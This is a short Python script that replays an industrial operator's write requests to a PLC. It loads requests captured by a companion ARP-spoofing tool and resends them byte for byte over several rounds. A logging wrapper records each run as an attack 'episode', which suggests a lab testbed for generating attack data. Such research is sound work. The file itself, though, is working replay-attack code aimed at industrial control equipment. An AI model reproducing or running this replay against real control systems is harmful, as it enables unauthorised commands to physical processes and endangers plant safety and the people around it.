"""The operator's write requests, read off the wire by arp_spoof.py, sent again byte for byte."""

import json
import time

from attacks.episode import Connection, arguments, episode, ports

ROUNDS = 3
PAUSE_SECONDS = 0.5
PAUSE_BETWEEN_ROUNDS = 3.0

if __name__ == "__main__":
    given = arguments(__doc__)
    with open(given.loot) as file:
        requests = [bytes.fromhex(request) for request in json.load(file)]
    if not requests:
        raise SystemExit("replay: arp_spoof.py has seen no write request of the operator")
    opened: list[int] = []
    description = "the operator's own write requests sent again, byte for byte, from the engineering station"
    with episode(given.log, "replay", description, [ports(opened)]):
        for _ in range(ROUNDS):
            with Connection(opened) as plc:
                for request in requests:
                    plc.send(request)
                    time.sleep(PAUSE_SECONDS)
            time.sleep(PAUSE_BETWEEN_ROUNDS)
